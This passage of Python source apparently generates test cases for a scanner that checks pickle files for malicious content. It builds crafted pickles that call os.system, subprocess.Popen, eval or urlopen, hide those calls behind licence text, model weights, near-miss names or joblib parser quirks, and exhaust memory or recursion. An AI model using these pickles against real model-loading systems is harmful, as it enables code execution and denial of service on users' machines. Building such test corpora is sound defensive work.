        ("DataFrame with eval", Call(G("pandas.core.frame", "DataFrame.eval"), Call(G("pandas.core.frame", "DataFrame")), PY), True),
        ("torch.device with a tuple", Call(G("torch", "device"), Call(G("builtins", "eval"), PY)), True),
        ("Pipeline with a foreign step", Build(New(G("sklearn.pipeline", "Pipeline")), {"steps": [("a", Call(G("subprocess", "Popen"), ["true"]))]}), True),
        ("numpy memmap subclass", Call(G("numpy", "memmap"), PATH, "uint8", "w+", 0, (1,)), True),
        ("SimpleNamespace BUILD with sink", Build(Call(G("types", "SimpleNamespace")), {"run": SYSTEM}), True),
    ]
    for name, value, sink in rows:
        yield Case("N", name, stream(value, 2), sink)


def exhaustion() -> Iterator[Case]:
    """Class O: small files that ask for a lot."""
    rows = [
        ("memo key 2^31-1", b"\x80\x02Nr\xff\xff\xff\x7f."), ("memo key 2^32-1", b"\x80\x02Nr\xff\xff\xff\xff."),
        ("memo key text 2^62", b"Np4611686018427387904\n."), ("BINUNICODE8 2^62", b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"x."),
        ("BINBYTES8 2^63", b"\x80\x04\x8e" + struct.pack("<Q", 2**63) + b"x."), ("BYTEARRAY8 2^40", b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b"x."),
        ("LONG4 2^31-1", b"\x80\x02\x8b\xff\xff\xff\x7f\x01."), ("LONG4 negative", b"\x80\x02\x8b\xff\xff\xff\xff."),
        ("BINSTRING negative", b"T\xff\xff\xff\xff."), ("LONG text of a million digits", b"L" + b"9" * 1_000_000 + b"L\n."),
        ("marks 200000 deep", b"\x80\x02" + b"(" * 200_000 + b"t" * 200_000 + b"."),
        ("lists 200000 deep", b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."),
        ("tuples 200000 deep", b"\x80\x02N" + b"\x85" * 200_000 + b"."), ("dicts 100000 deep", b"\x80\x02" + b"}K\x00" * 100_000 + b"N" + b"s" * 100_000 + b"."),
        ("reduce 100000 deep", b"\x80\x02cbuiltins\nlist\n" + b")R" * 100_000 + b"."),
        ("DUP TUPLE2 2^200", b"\x80\x02N" + b"2\x86" * 200 + b"."), ("DUP TUPLE2 2^100000", b"\x80\x02N" + b"2\x86" * 100_000 + b"."),
        ("memo TUPLE2 2^200", b"\x80\x02Nq\x00" + b"h\x00h\x00\x86q\x00" * 200 + b"."),
        ("billion laughs of lists", b"\x80\x02]q\x00" + b"".join(b"](" + b"h\x00" * 10 + b"eq\x00" for _ in range(60)) + b"."),
        ("million empty pickles", b"N." * 500_000),
        ("FRAME 2^63", b"\x80\x04\x95" + struct.pack("<Q", 2**63) + b"N."), ("list(range(2^40))", stream(Call(G("builtins", "list"), Call(G("builtins", "range"), 2**40)), 2)),
        ("str times 2^40", stream(Call(G("operator", "mul"), "a", 2**40), 2)), ("pow of big integers", stream(Call(G("operator", "pow"), 2**60, 2**60), 2)),
        ("time.sleep", stream(Call(G("time", "sleep"), 1), 2)), ("threading.Event.wait", stream(Call(G("threading", "Event.wait"), made("threading", "Event"), 1), 4)),
        ("re backtracking", stream(Call(G("re", "match"), "(a+)+$", "a" * 28 + "b"), 2)),
    ]
    for name, data in rows:
        yield Case("O", name, data, False)
    yield Case("O", "payload behind a million opcodes", b"\x80\x02" + b"N0" * 1_000_000 + stream(RUN, 2)[2:])
    yield Case("O", "payload behind 200000 marks", b"\x80\x02" + b"(" * 200_000 + b"1" * 200_000 + stream(RUN, 2)[2:])


def hidden_in_noise() -> Iterator[Case]:
    """Classes Q and R: payloads where tools have their own bugs or mute themselves."""
    names = [("posixpath.posix", "system"), ("os.path.os", "system"), ("_posixsubprocess ", "fork_exec"), ("Posix", "System")]
    for module, name in names:
        yield Case("Q", f"near miss of a listed name {module} {name}", stream(Call(G(module, name), CMD), 2), False)
    yield Case("Q", "listed name as an attribute of a class", stream(Call(G("os", "system.__call__"), CMD), 4))
    yield Case("Q", "first call is broken", stream(Then(Raw(b"cno_such_module\nx\n"), RUN), 2))
    yield Case("Q", "first import is empty", stream(Then(Raw(b"c\n\n"), RUN), 2), False, note="the empty import fails first")
    yield Case("Q", "same names twice with other arguments", stream([Call(G("builtins", "list"), [1]), Call(G("builtins", "getattr"), Call(IMPORT, "os"), "system"), RUN], 2))
    licence = "Redistribution and use in source and binary forms are permitted. " * 200
    yield Case("R", "behind a licence text", stream([licence, RUN], 2))
    yield Case("R", "behind base64 text", stream(["QUJD" * 2000, RUN], 2))
    yield Case("R", "behind many domain-like strings", stream([[f"layer{i}.c.org" for i in range(500)], RUN], 2))
    yield Case("R", "uuid among uuids", stream([Call(G("uuid", "UUID"), "0" * 32), Call(G("uuid", "_get_command_stdout"), "touch", "/tmp/andiron-marker")], 2))
    yield Case("R", "bytes that look like a pickle and one that runs", stream([b"cposix\nsystem\n.", RUN], 3))
    state = {f"layer.{i}.weight": [float(i)] for i in range(300)}
    yield Case("R", "among weights", stream({**state, "hook": RUN}, 2))
    many = [Call(G("collections", "OrderedDict"), [(f"k{i}", i)]) for i in range(2000)]
    yield Case("R", "after 2000 allowed calls", stream(many + [RUN], 2))
    module = Build(New(G("torch.nn.modules.container", "Sequential")), {"_modules": Call(G("collections", "OrderedDict"), [("0", RUN)]), "training": True})
    yield Case("R", "inside a whole module", stream(module, 2))
    args = Build(New(G("transformers.training_args", "TrainingArguments")), {"output_dir": PATH, "hook": Call(G("urllib.request", "urlopen"), URL)})
    yield Case("R", "inside training arguments", stream(args, 2))


def borrowed_callers() -> Iterator[Case]:
    """Reviewed code that calls what the file puts in its way."""
    od = G("collections", "OrderedDict")
    inner = stream(RUN, 2)
    loader = G("torch.storage", "_load_from_bytes")
    caller = G("numpy.random._pickle", "__generator_ctor")
    modules = SetItem(Call(od), "0", loader)
    names = ("_parameters", "_buffers", "_backward_hooks", "_forward_hooks", "_forward_pre_hooks", "_backward_pre_hooks")
    chain = Build(New(G("torch.nn.modules.container", "Sequential")), {"_modules": modules, **{n: Call(od) for n in names}})
    yield Case("F", "numpy's constructor calls a module that loads bytes", stream(Call(caller, inner, chain), 3), False)
    config = {"backbone": [], "head": [], "activation": PY}
    yield Case("F", "numpy's constructor calls a model that evaluates its configuration", stream(Call(caller, config, G("ultralytics.nn.tasks", "DetectionModel")), 3), False)
    mapped = Call(G("functools", "partial"), G("numpy", "memmap"), PATH, "uint8", "w+", 0, (4,))
    holder = Build(New(G("argparse", "Namespace")), {"detach": mapped})
    yield Case("F", "torch detaches what is no tensor", stream(Call(G("torch._utils", "_rebuild_parameter"), holder, True, Call(od)), 3), False)
    group = Call(G("collections", "defaultdict"), Call(G("functools", "partial"), chain, inner))
    yield Case("F", "an optimizer asks a dictionary that calls", stream(Build(New(G("torch.optim.adam", "Adam")), {"param_groups": [group], "state": {}}), 3), False)
    yield Case("F", "an index of pandas is made as a file of numpy", stream(Call(G("pandas.core.indexes.base", "_new_Index"), G("numpy", "memmap"), {"filename": PATH, "mode": "w+", "shape": 4}), 3), False)


def misled_arrays() -> Iterator[Case]:
    """joblib reads array bytes between opcodes; each of these hides where they end."""
    wrapper = G("joblib.numpy_pickle", "NumpyArrayWrapper")
    dtype = Call(G("numpy", "dtype"), "f8", False, True)
    state = {"subclass": G("numpy", "ndarray"), "shape": (1,), "order": "C", "dtype": dtype, "allow_mmap": False, "numpy_array_alignment_bytes": None}
    run = code(RUN, 2) + b"0"
    # Eight bytes of an array for joblib; for others the start of a string that holds the call.
    hidden = b"N0NB" + struct.pack("<I", len(run)) + run + b"N0."
    od = Call(G("collections", "OrderedDict"))
    for key, value in state.items():
        od = SetItem(od, key, value)
    for what, built in (("a state with slots", Build(New(wrapper), (state, None))), ("a state in an instance", Build(New(wrapper), od)),
                        ("dtype of another constructor", Build(New(wrapper), {**state, "dtype": Call(G("numpy.dtypes", "Float64DType"))})),
                        ("alignment as text", Build(New(wrapper), {**state, "numpy_array_alignment_bytes": "16"}))):
        yield Case("H", f"joblib array, {what}", b"\x80\x04" + code(built, 4) + hidden, False, ext=".joblib")
    opcodes_in_array = (code(RUN, 2) + b".").ljust(800, b"\0")
    built = Build(New(wrapper), {**state, "shape": (100,)})
    yield Case("H", "joblib array whose bytes pickle.load runs", b"\x80\x04" + code(built, 4) + opcodes_in_array + b".", False)


def odd_beginnings() -> Iterator[Case]:
    """Streams whose first opcode a quick look takes for text."""
    call = b"cposix\nsystem\n(S'touch /tmp/andiron-marker'\ntR."
    for what, start in (("binary number", b"I0b1\n0"), ("hexadecimal number", b"L0xcdL\n0"), ("NUL in a number", b"I1\0\n0"), ("5000 zeros", b"I" + b"0" * 5000 + b"\n0")):
        yield Case("H", f"begins with a {what}", start + call, ext="")


def all_cases() -> Iterator[Case]:
    for make in (unlisted_sinks, dotted_names, reflection, forced_iteration, synthesised_classes, hidden_strings, opcodes,
                 parser_differentials, nested, module_poisoning, abused_allowlists, exhaustion, hidden_in_noise,
                 borrowed_callers, misled_arrays, odd_beginnings):
        yield from make()
